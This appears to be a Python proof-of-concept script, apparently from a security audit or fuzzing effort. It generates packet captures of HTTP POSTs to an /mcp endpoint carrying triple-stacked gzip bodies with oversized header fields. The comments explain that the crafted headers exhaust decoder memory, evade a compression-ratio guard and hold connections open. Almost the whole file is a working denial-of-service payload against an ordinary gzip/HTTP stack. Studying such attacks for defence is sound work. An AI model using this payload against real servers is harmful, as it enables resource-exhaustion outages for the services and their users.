# Candidate G: gzip decoders charged a flat 48 KiB (INFLATE_MEMORY) + output buffer, but flate2's
# gzip header parser keeps FEXTRA/FNAME/FCOMMENT (up to 64 KiB each) for the decoder's life, and
# zio::Writer keeps a 32 KiB buffer. Three stacked gzip codings per body; the innermost header
# stalls inside its comment; the connection stays open.
import sys,random,json,zlib; sys.path.insert(0, __import__('os').path.dirname(__file__)); from pc import *
random.seed(7); out,N,mode=sys.argv[1],int(sys.argv[2]),sys.argv[3]
F=65535 if mode!='ctl' else 1
def hdr(full, big, pad=0):
    h=b'\x1f\x8b\x08'+bytes([0x1c if big else (4 if pad else 0)])+b'\0\0\0\0\0\xff'
    if pad: h+=pad.to_bytes(2,'little')+random.randbytes(pad)
    if big:
        h+=F.to_bytes(2,'little')+b'x'*F+b'n'*F+b'\0'+b'c'*F+(b'\0' if full else b'')
    return h
def defl(data):
    c=zlib.compressobj(9,zlib.DEFLATED,-15); return c.compress(data)+c.flush(zlib.Z_SYNC_FLUSH)
inner=hdr(False,True)
mid=hdr(True,True)+defl(inner)
outer=hdr(True,False,3000)+defl(mid)  # 3000 bytes of FEXTRA: the ratio guard allows 200x per input slice
body=json.dumps({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}).encode()
p=P(out)
for c in range(N):
    k=Conn(p,c)
    k.c2s(b'POST /mcp HTTP/1.1\r\nHost: s\r\nContent-Type: application/json\r\nContent-Encoding: gzip, gzip, gzip\r\nContent-Length: 1000000\r\n\r\n'+outer,mss=60000)
    k.s2c(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip, gzip, gzip\r\nContent-Length: 1000000\r\n\r\n'+outer,mss=60000)
    k.ack()
p.close()
